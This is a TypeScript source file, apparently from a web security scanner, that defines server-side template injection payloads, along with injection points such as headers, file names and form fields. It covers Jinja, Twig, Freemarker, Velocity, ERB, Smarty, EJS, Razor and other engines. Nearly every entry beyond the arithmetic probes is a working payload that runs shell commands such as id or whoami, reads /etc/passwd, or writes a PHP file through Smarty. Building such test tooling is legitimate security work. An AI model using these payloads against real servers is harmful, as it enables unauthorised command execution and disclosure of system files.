// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expressions of template engines
import { dataPlaces } from '../places.ts';
import type { TechniqueFamily } from '../technique.ts';

export const templateTechniques: TechniqueFamily = {
  about: 'text of a page that a template engine of the server expands',
  places: [...dataPlaces, 'query name', 'Referer', 'User-Agent', 'file name', 'raw body'],
  fields: ['name', 'title', 'message', 'template', 'email', 'greeting'],
  techniques: {
    computation: {
      does: 'Has the engine compute something, to see whether it runs',
      needs: 'any engine',
      values: (random) => {
        const [a, b] = [2 + random.below(97), 2 + random.below(97)];
        return [
          `{{${a}*${b}}}`,
          `{{${a}*'${b}'}}`,
          `\${${a}*${b}}`,
          `<%= ${a}*${b} %>`,
          `#{${a}*${b}}`,
          `*{${a}*${b}}`,
          `[[\${${a}*${b}}]]`,
          `@(${a}*${b})`,
          `{%print(${a}*${b})%}`,
          `{{= ${a} * ${b} }}`,
          `\${{${a}*${b}}}`,
        ];
      },
    },
    Jinja: {
      does: 'Reaches classes, modules or the configuration in Jinja',
      needs: 'Flask, Django with Jinja, Ansible',
      values: () => [
        '{{config.items()}}',
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        "{{lipsum.__globals__['os'].popen('whoami').read()}}",
        '{% for c in ().__class__.__base__.__subclasses__() %}{{c}}{% endfor %}',
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
        "{{self._TemplateReference__context.namespace.__init__.__globals__.os.system('id')}}",
        "{{get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read()}}",
        "{% set x = joiner.__init__.__globals__.os.popen('id') %}",
      ],
    },
    Twig: {
      does: 'Calls functions through filters or the environment of Twig',
      needs: 'Twig',
      values: () => [
        "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
        "{{['id']|filter('system')}}",
        "{{['cat /etc/passwd']|map('passthru')|join}}",
        "{{[0,0]|reduce('system','id')}}",
        "{{app.request.server.all|join(',')}}",
        "{{['id','']|sort('system')|join}}",
      ],
    },
    Freemarker: {
      does: 'Creates an object that runs commands in Freemarker',
      needs: 'Freemarker',
      values: () => [
        '<#assign e="freemarker.template.utility.Execute"?new()>${e("id")}',
        '${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","id").start()}',
        "[#assign e='freemarker.template.utility.Execute'?new()]${e('id')}",
        '<#include "/etc/passwd">',
        '${product.getClass().getProtectionDomain().getCodeSource()}',
      ],
    },
    Velocity: {
      does: 'Reaches classes by reflection in Velocity',
      needs: 'Velocity',
      values: () => [
        '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")',
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime()",
        '$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")',
        "#set($s=$request.getClass().forName('java.lang.System'))",
      ],
    },
    ERB: {
      does: 'Runs Ruby or Elixir in a template',
      needs: 'Rails, Slim, Haml',
      values: () => [
        "<%= system('id') %>",
        '<%= `whoami` %>',
        "<%= File.open('/etc/passwd').read %>",
        "#{system('id')}",
        '#{%x(id)}',
        "<% require 'open3';Open3.capture2('id') %>",
        "<%= IO.popen('id').readlines() %>",
        '<%= Dir.entries("/") %>',
      ],
    },
    Smarty: {
      does: 'Calls functions in Smarty',
      needs: 'Smarty',
      values: () => [
        "{system('id')}",
        '{php}echo `id`;{/php}',
        '{if phpinfo()}{/if}',
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,'<?php 1;',self::clearConfig())}",
        '{$s="exec"}{$s(\'id\')}',
        '{$smarty.version}{$smarty.template_object}',
      ],
    },
    'other engines': {
      does: 'Reaches modules or commands in Pug, EJS, Nunjucks, Handlebars, Mako, Tornado, Razor or Go',
      needs: 'the engine',
      values: () => [
        "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}",
        "<%- global.process.mainModule.require('child_process').execSync('id') %>",
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        '{{#with "s" as |t|}}{{#with (t.sub.apply 0 list)}}{{lookup this "constructor"}}{{/with}}{{/with}}',
        '${self.module.cache.util.os.system("id")}',
        '<%import os%>${os.popen("id").read()}',
        '{% import os %}{{os.popen("id").read()}}',
        '@{System.Diagnostics.Process.Start("cmd.exe","/c whoami");}',
        '{{.System "ls"}}',
        '- var x = root.process\n- x = x.mainModule.require\n= x("child_process").exec("id")',
      ],
    },
  },
};
